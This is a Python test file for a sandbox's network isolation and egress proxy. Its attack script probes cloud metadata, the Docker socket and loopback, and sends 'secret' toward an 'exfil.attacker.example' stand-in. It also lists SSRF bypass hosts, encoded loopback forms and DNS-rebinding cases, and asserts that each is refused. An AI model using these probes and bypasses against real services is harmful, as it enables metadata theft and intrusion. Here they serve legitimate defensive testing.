"""The network: there is none but loopback of its own. The egress proxy goes where the space allows, and never inside."""

import asyncio
import socket
import subprocess
import sys
import tempfile
from ipaddress import ip_address

import pytest
import pytest_asyncio

from cloister.sandboxes.egress import is_public
from tests.attacks.egress import PROXY, Listener, allowed_host, connect, connecting, get, resolving, through_proxy

pytestmark = pytest.mark.asyncio(loop_scope="module")

DIRECT = """
import os, socket, struct, attack

def tcp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family) as sock:
        sock.settimeout(3)
        sock.connect((host, port))
        return sock.recv(100)

def udp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"secret", (host, port))
        sock.connect((host, port))
        sock.send(b"secret")
        return sock.recv(100)

def unix(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(3)
        sock.connect(path)
        return sock.recv(100)

for host, port in {tcp}:
    attack.attempt(f"tcp {{host}} {{port}}", tcp, host, port)
for host, port in {udp}:
    attack.attempt(f"udp {{host}} {{port}}", udp, host, port)
for name in {abstract}:
    attack.attempt("abstract " + name, unix, "\\0" + name)
for path in {unix}:
    attack.attempt("unix " + path, unix, path)
for name in ("example.com", "exfil.attacker.example", "localhost.localdomain"):
    attack.attempt("resolve " + name, socket.getaddrinfo, name, 80)
attack.report(interfaces=[name for _, name in socket.if_nameindex()], routes=open("/proc/net/route").read().count("\\n"))
"""


def own_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.255", 9))
        except OSError:
            return None
        return probe.getsockname()[0]


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def listener():
    found = Listener()
    server = await asyncio.start_server(found.serve, "0.0.0.0", 0)
    found.port = server.sockets[0].getsockname()[1]
    found.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    found.udp.bind(("0.0.0.0", 0))
    found.udp.setblocking(False)
    yield found
    found.udp.close()
    server.close()
    await server.wait_closed()


async def test_nothing_is_reachable_directly(arena, listener):
    abstract = socket.socket(socket.AF_UNIX)
    name = f"cloister-attack-{listener.port}"
    abstract.bind(f"\0{name}")
    abstract.listen()
    hosts = ["127.0.0.1", "0.0.0.0", "169.254.169.254", "::1", "::ffff:127.0.0.1", "1.1.1.1", "10.0.0.1", "fe80::1"]
    own = own_address()
    hosts += [own] if own else []
    port = arena.platform.settings.listen_port
    with tempfile.TemporaryDirectory() as folder, socket.socket(socket.AF_UNIX) as named:
        named.bind(f"{folder}/host.sock")
        named.listen()
        found = await arena.attack(
            DIRECT.format(
                tcp=repr([(host, p) for host in hosts for p in (listener.port, port, 80)]),
                udp=repr([(host, p) for host in hosts for p in (listener.udp.getsockname()[1], 53)]),
                abstract=repr([name, "/tmp/.X11-unix/X0"]),
                unix=repr([f"{folder}/host.sock", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/dev/log"]),
            )
        )
    abstract.close()
    assert {n: w for n, w in found.items() if isinstance(w, list) and w and w[0] is True} == {}
    assert found["interfaces"] == ["lo"]
    assert found["routes"] <= 1
    assert listener.heard == []
    with pytest.raises(BlockingIOError):
        listener.udp.recv(100)


async def test_the_proxy_goes_nowhere_that_is_not_on_the_list(arena, listener):
    own = own_address() or "127.0.0.1"
    hosts = [
        "127.0.0.1", "localhost", "0.0.0.0", own, "169.254.169.254", "metadata.google.internal", "[::1]", "2130706433",
        "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "evil.example", "notallowed.example", "xallowed.example",
        "allowed.example.evil.example", "wild.example", "xwild.example", "allowed.example@127.0.0.1",
    ]  # fmt: skip
    requests = [connect(host, port) for host in hosts for port in (listener.port, 443)]
    requests += [get(host, port) for host in hosts for port in (listener.port, 80)]
    requests += [connect("allowed.example", 22), get("allowed.example", 8080), get("metadata.example", 443)]
    with resolving(arena, {}) as asked:
        answers = await through_proxy(arena, *requests)
    assert {answer.split(" ")[1] for answer in answers} <= {"403", "400", "502"}, answers
    assert asked == [], "a refused name must not even be looked up: a look-up is a message"
    assert listener.heard == []
    denied = await arena.api.records(name="sandboxes:egress:deny")
    assert {record["outcome"] for record in denied} == {"refused"}
    assert all(record["team"] and record["sandbox"] for record in denied)
    assert {"169.254.169.254:80", "evil.example:443"} <= {record["subject"] for record in denied}


INSIDE_ADDRESSES = [
    "127.0.0.1", "127.8.8.8", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
    "192.0.0.192", "198.18.0.1", "224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255", "::", "::1",
    "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.0.0.1", "::127.0.0.1", "2002:7f00:1::", "2002:a9fe:a9fe::",
    "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2001:0:7f00:1::", "fe80::1", "fe80::1%eth0", "fd00::2",
    "fc00::1", "fec0::1", "ff02::1", "fd00:ec2::254",
]  # fmt: skip


@pytest.mark.parametrize("address", INSIDE_ADDRESSES)
async def test_an_address_inside_is_not_public(address):
    assert not is_public(ip_address(address.split("%")[0]))


async def test_an_allowed_name_that_leads_inside_is_refused(arena, listener):
    """Also when it leads to a listener that is really there, and whichever of its addresses is the bad one."""
    names = {f"n{number}.wild.example": [address] for number, address in enumerate(INSIDE_ADDRESSES)}
    names["both.wild.example"] = ["127.0.0.1", "169.254.169.254", "::ffff:127.0.0.1"]
    requests = [get(name) for name in names] + [connect(name, 80) for name in names]
    with resolving(arena, names) as asked, connecting(arena) as tried:
        answers = await through_proxy(arena, *requests)
    assert tried == []
    assert {answer.split(" ")[1] for answer in answers} == {"403"}, answers
    assert len(asked) == len(requests)
    assert listener.heard == []


async def test_a_rebound_name_changes_nothing(arena, listener):
    """The first look-up passes, the second (were there one) would lead to the listener: the first is used, once."""
    public = "198.51.99.1"
    names = {"allowed.example": [[public], ["127.0.0.1"], ["127.0.0.1"]]}
    with resolving(arena, names) as asked, connecting(arena) as tried:
        (answer,) = await through_proxy(arena, connect("allowed.example", 80))
    assert " 502 " in answer
    assert asked == ["allowed.example"]
    assert tried == [[public]]
    with resolving(arena, {"allowed.example": [["127.0.0.1"], [public]]}):
        (answer,) = await through_proxy(arena, connect("allowed.example", 80))
    assert " 403 " in answer
    assert listener.heard == []


async def test_a_public_address_of_this_machine_is_refused():
    """In a network namespace where this machine has an address of the internet's that its host name does not tell."""
    code = (
        "from ipaddress import ip_address\n"
        "from types import SimpleNamespace\n"
        "from cloister.sandboxes.egress import EgressProxy\n"
        "proxy = EgressProxy(SimpleNamespace(egress_allow_networks=[]), None)\n"
        "print([proxy._may_reach(ip_address(a)) for a in ('93.184.216.34', '2606:2800:220:1::1', '93.184.216.35')])\n"
    )
    script = (
        "ip link set lo up && ip addr add 93.184.216.34/32 dev lo && ip addr add 2606:2800:220:1::1/128 dev lo nodad && "
        f'exec {sys.executable} -c "$0"'
    )
    done = await asyncio.to_thread(
        subprocess.run, ["unshare", "-n", "sh", "-c", script, code], capture_output=True, text=True, check=False
    )
    assert done.stdout.strip() == "[False, False, True]", (done.stdout, done.stderr[-500:])


async def test_what_an_operator_allows_works_and_is_metered(arena):
    async with allowed_host(arena) as heard:
        sandbox = await arena.start(PROXY.format(requests=repr([get("allowed.example", path="/a?b=c")])))
        state, output = await arena.api.finish(arena.attacker, sandbox)
    assert "200 OK" in output, (state, output)
    (request,) = heard.heard
    assert request.startswith(b"GET /a?b=c HTTP/1.1\r\nHost: allowed.example\r\n")
    assert request.count(b"Host") == 1
    records = {
        name: [r for r in await arena.api.records(name=f"sandboxes:egress:{name}") if r["sandbox"] == sandbox["id"]]
        for name in ("allow", "end")
    }
    (allow,), (end,) = records["allow"], records["end"]
    for record in (allow, end):
        assert (record["team"], record["person"], record["subject"]) == (
            sandbox["team"], sandbox["person"], "allowed.example:80",
        )  # fmt: skip
    assert end["details"]["received"] == len(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nEND")
